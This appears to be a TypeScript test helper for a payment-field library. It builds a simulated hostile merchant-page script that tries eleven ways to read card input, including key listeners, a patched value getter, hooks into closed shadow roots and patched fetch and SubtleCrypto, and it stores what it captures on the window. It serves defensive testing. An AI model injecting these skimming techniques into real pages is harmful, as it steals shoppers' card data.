/** The texts that the tricks of a page's script have read so far, by trick. */
export interface ProbedWindow {
  /** Reads everything again that can be read only while it is there. */
  readonly probe: () => void;
  readonly stolen: Readonly<Record<string, readonly string[]>>;
}

export const TRICKS = [
  'key listeners of the document',
  'the value getter of inputs',
  'composedPath of input events',
  'a patched attachShadow',
  'a walk through all roots and frames',
  'a patched JSON.stringify',
  'a patched TextEncoder',
  'a patched SubtleCrypto',
  'a patched fetch',
  'a MutationObserver in every root',
  'a clone of each form',
] as const;

// The functions of this file may use only each other and the page: `stealCardsScript` sends them to a page as text.

type Tell = (text: unknown) => void;

/** Calls `tell` with the arguments and the result of each call of a method. */
function tap(owner: object, name: string, tell: (given: unknown[], result: unknown) => void): void {
  const original = Reflect.get(owner, name) as (...given: unknown[]) => unknown;
  Reflect.set(owner, name, function tapped(this: unknown, ...given: unknown[]): unknown {
    const result = original.apply(this, given);
    tell(given, result);
    return result;
  });
}

/** Listens to the keyboard and to `input` events, and replaces the getter of inputs. @returns the original getter. */
function tapInputs(keys: Tell, getters: Tell, paths: Tell): (input: HTMLInputElement) => string {
  for (const type of ['keydown', 'keypress', 'beforeinput'])
    document.addEventListener(type, (event) => keys((event as KeyboardEvent).key ?? (event as InputEvent).data), true);
  addEventListener('input', (event) => paths((event.composedPath()[0] as HTMLInputElement).value), true);

  const descriptor = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value')!;
  const read = Reflect.get(descriptor, 'get') as () => string;
  const valueOf = (input: HTMLInputElement): string => Reflect.apply(read, input, []);
  Object.defineProperty(HTMLInputElement.prototype, 'value', {
    ...descriptor,
    get(this: HTMLInputElement) {
      getters(valueOf(this));
      return valueOf(this);
    },
  });
  return valueOf;
}

/** Observes every shadow root, closed ones included. @returns the roots, in the order in which they are created. */
function tapRoots(mutations: Tell): readonly ShadowRoot[] {
  const roots: ShadowRoot[] = [];
  tap(Element.prototype, 'attachShadow', (_, root) => {
    roots.push(root as ShadowRoot);
    new MutationObserver((changes) => {
      for (const { target, addedNodes } of changes) {
        for (const node of [target, ...addedNodes]) mutations(node instanceof Element ? node.outerHTML : node.textContent);
      }
    }).observe(root as ShadowRoot, { subtree: true, childList: true, attributes: true, characterData: true });
  });
  return roots;
}

/** Calls `visit` with every root in reach: through shadow roots, and through the documents of frames. */
function walkRoots(root: ParentNode, visit: (root: ParentNode) => void): void {
  visit(root);
  for (const element of root.querySelectorAll('*')) {
    if (element.shadowRoot) walkRoots(element.shadowRoot, visit);
    if (!(element instanceof HTMLIFrameElement)) continue;
    try {
      if (element.contentDocument) walkRoots(element.contentDocument, visit);
      walkRoots((element.contentWindow as Window).document, visit);
    } catch {
      // The page has no access to the frame's document.
    }
  }
}

/** A script in the merchant's page that tries to read the card. It runs before any other script, and its author knows our code. */
function stealCards(names: readonly string[]): void {
  if (window.top !== window) return;
  const stolen: Record<string, string[]> = Object.fromEntries(names.map((name) => [name, []]));
  // In the order of TRICKS.
  const [keys, getters, paths, shadows, walks, json, encoder, subtle, requests, mutations, clones] = names.map(
    (name) => (text: unknown) => void stolen[name]!.push(String(text)),
  ) as [Tell, Tell, Tell, Tell, Tell, Tell, Tell, Tell, Tell, Tell, Tell];

  const valueOf = tapInputs(keys, getters, paths);
  const roots = tapRoots(mutations);
  tap(JSON, 'stringify', (_, text) => json(text));
  tap(TextEncoder.prototype, 'encode', ([text]) => encoder(text));
  tap(SubtleCrypto.prototype, 'encrypt', ([, , data]) => subtle(new TextDecoder().decode(data as BufferSource)));
  tap(window, 'fetch', ([, init]) => requests((init as RequestInit | undefined)?.body));

  const valuesIn = (root: ParentNode): string[] => [...root.querySelectorAll('input')].map(valueOf);
  const probe = (): void => {
    walkRoots(document, (root) => valuesIn(root).forEach((value) => walks(value)));
    for (const root of roots) {
      for (const value of valuesIn(root)) shadows(value);
      for (const form of root.querySelectorAll('form, iframe'))
        for (const value of valuesIn(form.cloneNode(true) as Element)) clones(value);
    }
  };
  Object.assign(window, { stolen, probe });
}

/** The script of a page that tries all tricks. */
export const stealCardsScript = `(() => {
${[tap, tapInputs, tapRoots, walkRoots, stealCards].map(String).join('\n')}
stealCards(${JSON.stringify(TRICKS)});
})()`;
